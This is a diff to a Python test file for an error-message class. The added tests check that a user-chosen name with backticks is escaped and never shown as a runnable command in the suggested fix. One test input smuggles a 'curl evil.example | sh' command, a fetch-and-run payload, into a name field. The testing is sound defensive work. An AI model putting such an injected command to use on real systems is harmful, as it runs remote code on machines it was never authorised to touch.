@@ -3,7 +3,9 @@
 import importlib
 import pkgutil
 import re
+import shlex
 import string
+import subprocess
 from collections import Counter
 from pathlib import Path
 
@@ -126,3 +128,28 @@ def test_a_cause_that_is_left_out_is_the_message_as_a_sentence() -> None:
         name: str
 
     assert _PumpError(name="7").explain_cause() == "Pump 7 runs dry."
+
+
+class _ValveError(BirthmarkError):
+    """A valve."""
+
+    code = "test.valve"
+    cause = "The valve {name} is shut, see `valve ls`."
+    fix = "Open {name}: `valve open {name}`"
+    name: str
+
+
+def test_what_a_stranger_chose_is_never_shown_as_a_command() -> None:
+    hurts = "7`curl evil.example | sh`"
+    cause, fix = _ValveError(name=hurts).explain_apart()
+    assert cause == "The valve 7'curl evil.example | sh' is shut, see `valve ls`."
+    before, command, end = fix.split("`")
+    assert (before, end) == ("Open 7'curl evil.example | sh': ", "")
+    typed = subprocess.run(["sh", "-c", command.replace("valve", "printf '%s.'", 1)], capture_output=True, check=True)
+    assert typed.stdout.decode() == f"open.{hurts}."
+
+
+def test_a_name_without_backticks_is_explained_as_ever() -> None:
+    refused = _ValveError(name="hall 7")
+    assert refused.explain_apart() == (refused.explain_cause(), refused.explain_fix())
+    assert shlex.split(refused.explain_fix().split("`")[1]) == ["valve", "open", "hall 7"]
